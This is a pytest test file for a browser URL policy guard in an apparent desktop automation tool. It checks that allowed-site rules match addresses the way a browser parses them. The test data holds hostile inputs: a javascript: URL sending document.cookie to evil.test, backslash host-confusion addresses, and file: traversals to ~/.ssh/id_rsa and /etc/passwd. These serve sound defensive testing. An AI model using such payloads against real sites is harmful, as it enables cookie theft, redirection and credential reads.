"""Addresses judged as the browser reads them (WHATWG URL rules), not as Python's urlsplit alone reads them.

Each address below was let through by the old parsing although the browser goes elsewhere with it: urlsplit
takes the host after the last "@" of everything up to the first "/", where a browser ends the host at a
backslash too; casefold turned "ß" into "ss"; and a schemeless rule matched any scheme's host and port.
"""

from __future__ import annotations

import pytest
from tests.unit.policy.test_policy_guard import LINK, Sinks, fake, inputs, make_guard, web_policy

from deskhand.backends.fake import FakeBackend
from deskhand.errors import PolicyDenied
from deskhand.policy.web import SiteRule

__all__ = ["fake"]

ADDRESS_BAR = ":1.55/org/a11y/atspi/accessible/69"


@pytest.mark.parametrize(
    ("rule", "address", "matches"),
    [
        # The browser goes to evil.test: "\" ends the host, "@127.0.0.1:8765/" is the path.
        ("127.0.0.1:8765", "http://evil.test\\@127.0.0.1:8765/", False),
        ("127.0.0.1:8765", "evil.test\\@127.0.0.1:8765", False),
        ("127.0.0.1:8765", "http:\\\\evil.test\\@127.0.0.1:8765", False),
        ("https://example.test", "https://evil.test\\@example.test/", False),
        # Schemes that are no site: a script run on the page shown, a page made of the URL, the browser's own.
        ("127.0.0.1:8765", "javascript://127.0.0.1:8765/%0Afetch('//evil.test')", False),
        ("127.0.0.1:8765", "data://127.0.0.1:8765/,<form action=//evil.test>", False),
        ("127.0.0.1:8765", "chrome://127.0.0.1:8765/", False),
        ("127.0.0.1:8765", "ftp://127.0.0.1:8765/", False),
        # "claß.test" is its own host (xn--cla-7fa.test), not class.test.
        ("class.test", "http://claß.test/", False),
        # Still allowed: the same site, written as people and browsers write it.
        ("127.0.0.1:8765", "HTTP://127.0.0.1:8765/a\\b", True),
        ("127.0.0.1:8765", "ws://127.0.0.1:8765/live", True),
        ("127.0.0.1:8765", "https://user@127.0.0.1:8765/", True),
        ("claß.test", "http://CLAß.test/", True),
        ("file:///home/me", "file:///home/me/page.html", True),
    ],
)
def test_sites_match_where_the_browser_goes(rule: str, address: str, matches: bool) -> None:
    assert SiteRule.parse(rule).matches(address) is matches


def test_enter_on_an_address_with_a_backslash_is_judged_by_the_host_the_browser_visits(fake: FakeBackend) -> None:
    guarded = make_guard(fake, web_policy(), Sinks())
    guarded.set_text(ADDRESS_BAR, "https://evil.test\\@example.test/")  # typing is allowed; going there is not
    fake.focus(ADDRESS_BAR)
    with pytest.raises(PolicyDenied, match=r"evil\.test.*is not in this workflow's sites"):
        guarded.press("Return")
    assert [i for i in inputs(fake) if i[0] == "press"] == []


@pytest.mark.parametrize(
    "href",
    [
        "/\\evil.test/login",  # "//evil.test/login" to a browser: another host
        "\\\\evil.test/login",
        "\\/evil.test/login",
        "/\t/evil.test/login",
        "\x01 //evil.test/login",
    ],
)
def test_a_link_whose_href_leaves_the_site_as_the_browser_reads_it_is_refused(fake: FakeBackend, href: str) -> None:
    fake.update(LINK, attributes={"href": href})
    sinks = Sinks()
    guarded = make_guard(fake, web_policy(), sinks)
    with pytest.raises(PolicyDenied, match=r"evil\.test/login is not in this workflow's sites"):
        guarded.click(LINK)
    assert inputs(fake) == []
    assert "blocked" in sinks.kinds()


def test_a_link_with_a_backslash_in_its_path_stays_on_the_site(fake: FakeBackend) -> None:
    fake.update(LINK, attributes={"href": "docs\\signin"})
    guarded = make_guard(fake, web_policy(), Sinks())
    guarded.click(LINK)
    assert ("click", LINK, "left", 1) in inputs(fake)


@pytest.mark.parametrize(
    "url",
    [
        "javascript://example.test/%0Afetch('https://evil.test/?c='+document.cookie)",  # runs on the page shown
        "https://evil.test\\@example.test/",
        "data://example.test/,<form/action=https://evil.test>",
    ],
)
def test_an_open_step_given_such_an_address_by_its_inputs_is_refused(fake: FakeBackend, url: str) -> None:
    # `Open {url} in the browser` with the url from a CSV cell: the opener types it into the bar unguarded once
    # check_launch has judged it, so the judgement must read it as the browser will.
    guarded = make_guard(fake, web_policy(sites=("example.test",)), Sinks())  # any web scheme, as people write
    with pytest.raises(PolicyDenied, match="not in this workflow's sites"):
        guarded.check_launch("chromium", url)
    guarded.check_launch("chromium", "https://example.test/form")


@pytest.mark.parametrize(
    ("address", "matches"),
    [
        ("file:///home/me/pages/report.html", True),
        ("FILE:///home/me/pages/sub/a.html", True),
        ("file:///home/me/.ssh/id_rsa", False),  # every file: address matched every file: rule before
        ("file:///etc/passwd", False),
        ("file:///home/me/pagesX/a.html", False),
        ("file:///home/me/pages/../.ssh/id_rsa", False),  # the browser resolves the dot segments
        ("file:///home/me/pages/%2e%2e/.ssh/id_rsa", False),  # "%2e%2e" is ".." to it too
        ("file:///home/me/pages\\..\\.ssh\\id_rsa", False),
    ],
)
def test_a_file_site_allows_its_own_folder_only(address: str, matches: bool) -> None:
    assert SiteRule.parse("file:///home/me/pages").matches(address) is matches
